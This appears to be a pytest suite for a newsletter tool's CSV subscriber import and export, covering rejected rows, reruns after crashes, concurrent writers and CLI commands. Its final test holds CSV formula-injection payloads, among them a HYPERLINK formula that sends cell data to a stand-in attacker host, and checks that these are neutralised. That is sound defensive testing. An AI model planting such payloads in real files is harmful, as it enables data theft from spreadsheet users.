"""CSV import: bad rows, duplicates, a crash part-way and the rerun, the CLI.

Every test runs on PostgreSQL (production: one statement a chunk, two
chunks in flight) and on SQLite (the embedded default: step by step, one
writer), which share the rules but not the writes.
"""

from __future__ import annotations

import csv

import pytest
from click.testing import CliRunner
from sqlalchemy import func, select

from mailer import db
from mailer.cli import main
from mailer.models import (
    Notification,
    Status,
    Subscriber,
    Subscription,
    SubscriptionEvent,
    SubscriptionTopic,
)
from mailer.readers import newsletters, suppressions
from mailer.readers import subscriptions as subs
from mailer.readers.importer import import_csv
from tests.conftest import configure


@pytest.fixture(params=["postgresql", "sqlite"])
def session(request, settings, monkeypatch):
    """The import's database, which the CLI reads too (through the settings)."""
    url = settings.database
    if request.param == "sqlite":
        url = request.getfixturevalue("sqlite_url")
        configure(monkeypatch, database_url=url)
    s = db.session_factory(url)()
    yield s
    s.close()


@pytest.fixture
def newsletter(session):
    nl = newsletters.create_newsletter(session, "weekly", "Weekly", "Weekly <news@example.org>")
    newsletters.ensure_topic(session, nl, "Science")
    newsletters.ensure_topic(session, nl, "Culture")
    session.commit()
    return nl


def write(path, rows, header=("email", "name", "topics", "frequency")):
    with path.open("w", newline="") as f:
        out = csv.writer(f)
        out.writerow(header)
        out.writerows(rows)
    return path


def count(session, model, *where):
    session.expire_all()
    return session.scalar(select(func.count()).select_from(model).where(*where))


def rejects(path):
    with path.open(newline="") as f:
        return list(csv.DictReader(f))


def test_import_reports_added_invalid_with_lines_and_writes_rejects(session, newsletter, tmp_path):
    path = write(
        tmp_path / "list.csv",
        [
            ["Ann@Example.org", "Ann", "science|Culture", "daily"],
            ["not-an-address", "X", "", ""],
            ["bob@example.org", "Bob", "astrology", ""],
            ["cat@example.org", "Cat", "", "hourly"],
            ["ann@example.ORG", "Ann again", "", ""],
            ["dan@example.org", "Dan", "", ""],
        ],
    )
    report = import_csv(session, path, "weekly", confirmed=True)
    assert (report.added, report.already, report.invalid) == (2, 1, 3)
    assert report.invalid_lines == [3, 4, 5]
    assert [(r["line"], r["email"]) for r in rejects(report.rejects_path)] == [
        ("3", "not-an-address"),
        ("4", "bob@example.org"),
        ("5", "cat@example.org"),
    ]
    reasons = [r["reason"] for r in rejects(report.rejects_path)]
    assert "not valid" in reasons[0] and "astrology" in reasons[1] and "daily" in reasons[2]

    ann = session.scalars(
        select(Subscription).join(Subscriber).where(Subscriber.email_key == "ann@example.org")
    ).one()
    assert ann.status is Status.ACTIVE and ann.frequency.value == "daily"
    assert sorted(t.slug for t in ann.topics) == ["culture", "science"]
    assert ann.consent_source == "import:list.csv" and ann.confirmed_at is not None
    event = session.scalars(
        select(SubscriptionEvent).where(SubscriptionEvent.subscription_id == ann.id)
    ).one()
    assert (event.old_status, event.new_status, event.source) == (None, "active", "import:list.csv")
    assert count(session, Notification) == 0


def test_a_rejected_row_keeps_line_and_reason_in_their_columns_however_many_cells_it_had(
    session, newsletter, tmp_path
):
    path = tmp_path / "ragged.csv"
    path.write_text(
        "email,name,topics\n"
        "short-row\n"
        "long@row,Long,astrology,extra,cells\n"
        f'huge@example.org,"{"x" * 200_000}"\n'  # past the csv module's 128 KiB field limit
        "ann@example.org,Ann,\n"
    )
    report = import_csv(session, path, "weekly", confirmed=True)
    assert (report.rows, report.added, report.invalid) == (4, 1, 3)
    short, long, huge = rejects(report.rejects_path)
    assert (short["email"], short["name"], short["line"]) == ("short-row", "", "2")
    assert "not valid" in short["reason"]
    assert (long["email"], long["topics"], long["line"]) == ("long@row", "astrology", "3")
    assert "not valid" in long["reason"] and long[None] == ["extra", "cells"]
    assert (huge["email"], huge["line"]) == ("", "4") and "unreadable CSV" in huge["reason"]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        pytest.param("", "The file is empty", id="empty"),
        pytest.param(
            f'"{"e" * 200_000}"\nann@example.org\n', "header row can't be read", id="header"
        ),
    ],
)
def test_a_file_without_a_readable_header_is_refused_and_nothing_is_stored(
    session, newsletter, tmp_path, content, message
):
    from mailer.readers.importer import ImportFileError

    path = tmp_path / "bad.csv"
    path.write_text(content)
    with pytest.raises(ImportFileError, match=message):
        import_csv(session, path, "weekly", confirmed=True)
    assert count(session, Subscriber) == 0
    assert not (tmp_path / "bad.rejects.csv").exists()


def test_import_without_confirmed_queues_one_confirm_notice_per_new_reader(
    session, newsletter, tmp_path
):
    path = write(tmp_path / "optin.csv", [[f"r{i}@example.org", "", "", ""] for i in range(5)])
    sent: list[int] = []
    report = import_csv(session, path, "weekly", chunk_size=2, after_commit=sent.extend)
    assert report.added == 5
    assert count(session, Subscription, Subscription.status == Status.PENDING) == 5
    notes = session.scalars(select(Notification.id).where(Notification.kind == "confirm")).all()
    assert sorted(sent) == sorted(notes) and len(notes) == 5

    again = import_csv(session, path, "weekly", after_commit=sent.extend)
    assert (again.added, again.already) == (0, 5)
    assert count(session, Notification) == 5, "a rerun must not mail anyone twice"


def test_import_never_resubscribes_a_reader_who_left_nor_a_suppressed_address(
    session, newsletter, tmp_path
):
    out = subs.subscribe(session, email="left@x.org", newsletter="weekly", confirmed=True)
    sub = session.get(Subscription, out.subscription_id)
    subs.change_status(session, sub, Status.UNSUBSCRIBED, source="test")
    suppressions.suppress(session, "blocked@x.org", "complaint")
    pending = subs.subscribe(session, email="pending@x.org", newsletter="weekly")
    session.commit()
    path = write(
        tmp_path / "old.csv",
        [[email, "", "", ""] for email in ("left@x.org", "blocked@x.org", "pending@x.org")],
    )
    report = import_csv(session, path, "weekly", confirmed=True)
    assert (report.added, report.ended, report.suppressed, report.confirmed) == (0, 1, 1, 1)
    session.expire_all()
    assert session.get(Subscription, sub.id).status is Status.UNSUBSCRIBED
    assert session.get(Subscription, pending.subscription_id).status is Status.ACTIVE
    assert count(session, Subscriber, Subscriber.email_key == "blocked@x.org") == 0
    assert {r["email"] for r in rejects(report.rejects_path)} == {"left@x.org", "blocked@x.org"}


class Crash(RuntimeError):
    pass


def test_a_crash_mid_import_leaves_whole_chunks_and_the_rerun_finishes_with_right_counts(
    session, newsletter, tmp_path
):
    rows = []
    for i in range(3000):
        email = "broken-address" if i % 400 == 7 else f"reader{i}@example.org"
        rows.append([email, "", "science" if i % 2 else "", ""])
    rows.append(["reader5@EXAMPLE.org", "", "", ""])  # the same reader twice
    path = write(tmp_path / "big.csv", rows)
    chunk, crash_line = 500, 1800

    def crash(line: int) -> None:
        if line == crash_line:
            raise Crash("the power went out")

    with pytest.raises(Crash):
        import_csv(session, path, "weekly", confirmed=True, chunk_size=chunk, on_row=crash)

    valid_before = sum(1 for i in range(crash_line - 2) if i % 400 != 7)
    stored = count(session, Subscription)
    assert stored == (valid_before // chunk) * chunk and stored > 0
    assert count(session, Subscriber) == stored
    assert count(session, SubscriptionEvent) == stored
    with_topics = session.scalar(
        select(func.count(func.distinct(SubscriptionTopic.subscription_id)))
    )
    first_stored = [i for i in range(3000) if i % 400 != 7][:stored]
    assert with_topics == sum(1 for i in first_stored if i % 2)

    report = import_csv(session, path, "weekly", confirmed=True, chunk_size=chunk)
    invalid = sum(1 for i in range(3000) if i % 400 == 7)
    assert report.invalid == invalid
    assert report.already == stored + 1
    assert report.added == 3000 - invalid - stored
    assert count(session, Subscription) == 3000 - invalid
    assert count(session, SubscriptionEvent) == 3000 - invalid


def test_cli_import_prints_a_summary_and_refuses_a_file_without_email_column(
    settings, newsletter, session, tmp_path
):
    good = write(tmp_path / "good.csv", [["a@example.org", "A", "", ""], ["oops", "", "", ""]])
    result = CliRunner().invoke(main, ["subscribers", "import", str(good), "--confirmed"])
    assert result.exit_code == 0, result.output
    assert (
        "added" in result.output and "the invalid rows are at line 3 of the file" in result.output
    )
    assert "good.rejects.csv" in result.output

    bad = write(tmp_path / "bad.csv", [["a@example.org"]], header=("mail",))
    result = CliRunner().invoke(main, ["subscribers", "import", str(bad), "--newsletter", "weekly"])
    assert result.exit_code == 1 and "no 'email' column" in result.output
    assert count(session, Subscription) == 1


def test_cli_import_needs_a_newsletter_when_there_are_several(
    settings, newsletter, session, tmp_path
):
    newsletters.create_newsletter(session, "daily", "Daily", "Daily <d@example.org>")
    session.commit()
    path = write(tmp_path / "x.csv", [["a@example.org", "", "", ""]])
    result = CliRunner().invoke(main, ["subscribers", "import", str(path)])
    assert result.exit_code == 2 and "--newsletter" in result.output
    assert count(session, Subscription) == 0


def test_cli_export_csv_reimports_into_another_newsletter_and_list_shows_it(
    settings, newsletter, session, tmp_path
):
    daily = newsletters.create_newsletter(session, "daily", "Daily", "Daily <d@example.org>")
    newsletters.ensure_topic(session, daily, "Science")
    newsletters.ensure_topic(session, daily, "Culture")
    session.commit()
    path = write(tmp_path / "in.csv", [["a@example.org", "", "science;culture", "daily"]])
    first = ["subscribers", "import", str(path), "--newsletter", "weekly", "--confirmed"]
    assert CliRunner().invoke(main, first).exit_code == 0
    exported = tmp_path / "out.csv"
    result = CliRunner().invoke(
        main, ["subscribers", "export", "--newsletter", "weekly", "-o", str(exported)]
    )
    assert result.exit_code == 0, result.output
    rows = rejects(exported)
    assert [(r["email"], r["topics"], r["frequency"], r["source"]) for r in rows] == [
        ("a@example.org", "culture;science", "daily", "import:in.csv")
    ]
    back = CliRunner().invoke(
        main, ["subscribers", "import", str(exported), "--newsletter", "daily"]
    )
    assert back.exit_code == 0, back.output
    assert count(session, Subscription, Subscription.status == Status.PENDING) == 1

    listed = CliRunner().invoke(
        main, ["subscribers", "list", "--status", "pending"], terminal_width=200
    )
    assert "a@example.org" in listed.output and "daily" in listed.output


def test_cli_set_status_is_audited_and_refuses_a_bad_transition(settings, newsletter, session):
    subs.subscribe(session, email="a@example.org", newsletter="weekly", confirmed=True)
    session.commit()
    ok = CliRunner().invoke(
        main,
        ["subscribers", "set-status", "a@example.org", "unsubscribed", "--newsletter", "weekly"],
    )
    assert ok.exit_code == 0 and "now unsubscribed" in ok.output
    assert count(session, SubscriptionEvent, SubscriptionEvent.source == "operator") == 1
    bad = CliRunner().invoke(
        main, ["subscribers", "set-status", "a@example.org", "bounced", "--newsletter", "weekly"]
    )
    assert bad.exit_code == 1 and "cannot go from unsubscribed to bounced" in bad.output
    assert count(session, SubscriptionEvent, SubscriptionEvent.source == "operator") == 1


def test_the_domain_cache_gives_normalise_s_verdict_on_every_address_every_time():
    """The import checks each distinct domain once; every answer must still be normalise's own."""
    from mailer.readers.addresses import CachedNormaliser, InvalidAddress, normalise

    addresses = [
        "a@example.org",
        "A@EXAMPLE.ORG",
        "b@exa_mple.org",
        "c@localhost",
        "e@münchen.de",
        "f@xn--mnchen-3ya.de",
        "g@example.invalid",
        "h@-bad.org",
        "i@a..b",
        "k@ＥＸＡＭＰＬＥ.org",
        "m@example.org.",
        "postmaster@Example.org",
        "o@⒈.com",
        "r@@example.org",
        "s@",
        "bad..local@example.org",
        "x" * 240 + "@example.org",
        # The split's own cases: most of them are left to email-validator's walk.
        "a b@example.org",
        "@example.org",
        "a@b@example.org",
        '"quoted"@example.org',
        "Reader <a@example.org>",
        "a\u0301@example.org",
        "a＠example.org",
    ]

    def verdict(check, address):
        try:
            return check(address)
        except InvalidAddress as exc:
            return f"refused: {exc}"

    cached = CachedNormaliser()
    for _ in range(3):  # the second and third rounds are answered from the cache
        assert [verdict(cached, a) for a in addresses] == [verdict(normalise, a) for a in addresses]
    assert cached.cache, "the domain step was not cached"


def test_an_invalid_domain_is_refused_on_every_row_with_its_line(session, newsletter, tmp_path):
    rows = []
    for i in range(30):
        domain = ("example.org", "exa_mple.org", "example")[i % 3]
        rows.append([f"reader{i}@{domain}", "", "", ""])
    path = write(tmp_path / "domains.csv", rows)
    report = import_csv(session, path, "weekly", confirmed=True, chunk_size=4)
    bad_lines = [i + 2 for i in range(30) if i % 3]
    assert (report.added, report.invalid) == (10, 20)
    assert report.invalid_lines == bad_lines
    refused = rejects(report.rejects_path)
    assert [int(r["line"]) for r in refused] == bad_lines
    assert all("invalid characters: '_'" in r["reason"] for r in refused[0::2])
    assert all("should have a period" in r["reason"] for r in refused[1::2])


def _import_with(session, nl, path, *, writers, chunk_size, confirmed=True, write_chunk=None):
    from mailer.readers.importer import Importer, consent_source

    importer = Importer(session, nl, source=consent_source(path), confirmed=confirmed)
    if write_chunk is not None:
        importer.write_chunk = write_chunk(importer.write_chunk)
    return importer.run(path, chunk_size=chunk_size, writers=writers)


def _stored(session):
    session.expire_all()
    return {
        sub.subscriber.email_key: (
            sub.status.value,
            sub.frequency.value,
            tuple(sorted(t.slug for t in sub.topics)),
            sub.consent_source,
            count(session, SubscriptionEvent, SubscriptionEvent.subscription_id == sub.id),
        )
        for sub in session.scalars(select(Subscription))
    }


@pytest.mark.parametrize("session", ["postgresql"], indirect=True)  # SQLite keeps one writer
def test_two_writers_count_reject_and_store_exactly_what_one_writer_does(
    session, newsletter, tmp_path
):
    """Chunks written two at a time; a reader repeated in the next chunk keeps the first line."""
    from sqlalchemy import delete

    suppressions.suppress(session, "blocked@x.org", "complaint")
    out = subs.subscribe(session, email="left@x.org", newsletter="weekly", confirmed=True)
    subs.change_status(
        session, session.get(Subscription, out.subscription_id), Status.UNSUBSCRIBED, source="test"
    )
    session.commit()
    rows = []
    for i in range(60):
        rows.append([f"r{i}@example.org", "", ("science", "culture", "")[i % 3], ""])
        if i % 9 == 4:
            rows.append([f"broken{i}", "", "", ""])
        if i % 5 == 2:  # the same reader again in the next chunk, with other topics
            rows.append([f"R{i - 1}@EXAMPLE.org", "", "science;culture", "daily"])
    rows[20:20] = [["blocked@x.org", "", "", ""], ["left@x.org", "", "", ""]]
    path = write(tmp_path / "two.csv", rows)

    results = []
    for writers in (2, 1):
        report = _import_with(session, newsletter, path, writers=writers, chunk_size=4)
        results.append(
            (
                (report.added, report.already, report.invalid, report.suppressed, report.ended),
                (report.rows, report.chunks, report.invalid_lines),
                sorted(
                    (int(r["line"]), r["email"], r["reason"]) for r in rejects(report.rejects_path)
                ),
                _stored(session),
            )
        )
        left = session.scalars(select(Subscriber.id).where(Subscriber.email_key == "left@x.org"))
        session.execute(delete(Subscriber).where(Subscriber.id.not_in(list(left))))
        session.commit()
    assert results[0] == results[1]
    counts, _, refused, stored = results[0]
    assert counts == (60, 12, 7, 1, 1)
    assert {r[1] for r in refused} >= {"blocked@x.org", "left@x.org"}
    assert stored["r1@example.org"][1:3] == ("weekly", ("culture",))


class ChunkFailed(RuntimeError):
    pass


@pytest.mark.parametrize("session", ["postgresql"], indirect=True)  # SQLite keeps one writer
def test_a_chunk_that_fails_rolls_back_the_one_written_beside_it(session, newsletter, tmp_path):
    """Two chunks in flight: the later commits after the earlier, so a failure leaves a prefix."""
    import threading

    path = write(tmp_path / "fail.csv", [[f"r{i}@example.org", "", "", ""] for i in range(30)])
    second_written = threading.Event()

    def failing(original):
        def write_chunk(rows, reject, store=None, report=None):
            if rows and rows[0].line == 7:  # the second chunk of five
                assert second_written.wait(30), "the third chunk was never written"
                raise ChunkFailed("the disk is full")
            notes = original(rows, reject, store, report)
            if rows and rows[0].line == 12:  # the third, in flight beside the second
                second_written.set()
            return notes

        return write_chunk

    with pytest.raises(ChunkFailed):
        _import_with(session, newsletter, path, writers=2, chunk_size=5, write_chunk=failing)
    assert count(session, Subscription) == 5
    assert count(session, Subscriber) == 5


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "\t=cmd"]


def test_no_cell_of_the_rejects_file_or_the_export_runs_as_a_formula_and_both_read_back(
    settings, newsletter, session, tmp_path
):
    """OWASP CSV injection: every cell that starts with = + - @ (or tab / CR) is written
    with a leading ', in the rejects file (whatever the import file held) and in the
    export (addresses may start with = + -). The import reads both back as they were."""
    legit = ["=1+1@example.org", "-dash@example.org", "+plus@example.org", "'quote@example.org"]
    path = write(
        tmp_path / "in.csv",
        [[cell, cell, "", ""] for cell in FORMULAS] + [[a, "", "", ""] for a in legit],
        header=("email", "=name", "topics", "frequency"),
    )
    result = CliRunner().invoke(
        main, ["subscribers", "import", str(path), "--newsletter", "weekly", "--confirmed"]
    )
    assert result.exit_code == 0, result.output
    session.expire_all()
    assert sorted(session.scalars(select(Subscriber.email))) == sorted(legit)

    with (tmp_path / "in.rejects.csv").open(newline="") as f:
        written = list(csv.reader(f))
    assert written[0][1] == "'=name"
    cells = [cell for row in written for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert [row[0] for row in written[1:]] == ["'" + c for c in FORMULAS]

    exported = tmp_path / "out.csv"
    out = CliRunner().invoke(
        main, ["subscribers", "export", "--newsletter", "weekly", "-o", str(exported)]
    )
    assert out.exit_code == 0, out.output
    emails = [r["email"] for r in rejects(exported)]
    assert sorted(emails) == sorted(["'=1+1@example.org", "'-dash@example.org",
                                     "'+plus@example.org", "'quote@example.org"])  # fmt: skip

    daily = newsletters.create_newsletter(session, "daily", "Daily", "Daily <d@example.org>")
    session.commit()
    back = CliRunner().invoke(
        main, ["subscribers", "import", str(exported), "--newsletter", daily.slug]
    )
    assert back.exit_code == 0, back.output
    session.expire_all()
    # The same four readers, now also in Daily: nobody new, no address with a ' added.
    assert sorted(session.scalars(select(Subscriber.email))) == sorted(legit)
    assert count(session, Subscription, Subscription.newsletter_id == daily.id) == 4
